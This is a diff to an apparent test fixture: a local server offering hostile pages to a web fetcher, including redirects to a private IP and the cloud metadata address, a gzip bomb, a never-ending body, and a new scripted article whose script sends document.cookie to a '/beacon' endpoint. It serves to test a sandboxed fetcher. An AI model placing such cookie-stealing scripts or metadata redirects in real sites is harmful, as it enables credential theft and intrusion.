@@ -7,10 +7,13 @@
 - ``/redirect/<n>`` a chain of ``n`` redirects ending at ``/article``;
 - ``/to-private`` and ``/to-metadata`` a redirect to 10.0.0.1 and to 169.254.169.254;
 - ``/slow`` a page whose body trickles in a byte at a time, forever;
+- ``/silent`` a server that accepts the connection and never answers;
 - ``/huge`` 50 MB of body without a length; ``/huge-declared`` one that says so first;
 - ``/bomb`` a gzip bomb: 200 MB of zeros compressed to about 200 kB;
 - ``/changing`` a page whose text changes whenever ``site.version`` is moved on;
-- ``/gone`` 404, ``/gone410`` 410, ``/error`` 503.
+- ``/gone`` 404, ``/gone410`` 410, ``/error`` 503;
+- ``/scripted`` an article whose script, image and style would call back to ``/beacon``,
+  ``/pixel`` and ``/style.css`` on this server (a sandboxed copy never does).
 
 ``tls_site`` serves the article over https with a self-signed certificate (a TLS error for a
 fetcher that verifies certificates).
@@ -41,6 +44,18 @@ administration and its foreign backers.</p>
 <p>A counter-terrorism official said the death had not been independently confirmed.</p>
 </article><footer>Copyright 2019 Example News. All rights reserved. Cookie settings.</footer>
 <script>document.cookie = "stolen=1"; alert("x")</script></body></html>"""
+
+
+def scripted_page(base: str) -> str:
+    """An article that tries to run a script, read the cookies and load things from ``base``."""
+    return (f"<!doctype html><html><head><meta charset='utf-8'><title>Scripted</title>"
+            f"<link rel='stylesheet' href='{base}/style.css'></head><body>"
+            "<article><h1>The statement, as first published</h1><p id='words'>The minister said the bridge "
+            "would open in May, according to the transcript published on Tuesday.</p></article>"
+            f"<img src='{base}/pixel' alt=''>"
+            "<script>document.body.dataset.ran = 'yes'; document.getElementById('words').textContent = 'rewritten';"
+            f"new Image().src = '{base}/beacon?' + encodeURIComponent(document.cookie); alert('ran');</script>"
+            "</body></html>")
 
 
 def changing_page(version: int) -> str:
@@ -122,6 +137,8 @@ class Site:
                             self.wfile.write(b"a")
                             self.wfile.flush()
                             time.sleep(0.2)
+                    elif path == "/silent":
+                        time.sleep(60)  # (the fetcher has given up long before)
                     elif path in ("/huge", "/huge-declared"):
                         extra = {"Content-Length": str(50 * 1024 * 1024)} if path == "/huge-declared" else {}
                         self._head(200, "text/plain", extra)
@@ -133,6 +150,10 @@ class Site:
                         self.wfile.write(site.bomb)
                     elif path == "/changing":
                         body = changing_page(site.version).encode()
+                        self._head(200, "text/html; charset=utf-8", {"Content-Length": str(len(body))})
+                        self.wfile.write(body)
+                    elif path == "/scripted":
+                        body = scripted_page(site.url("")).encode()
                         self._head(200, "text/html; charset=utf-8", {"Content-Length": str(len(body))})
                         self.wfile.write(body)
                     elif path in ("/gone", "/gone410"):
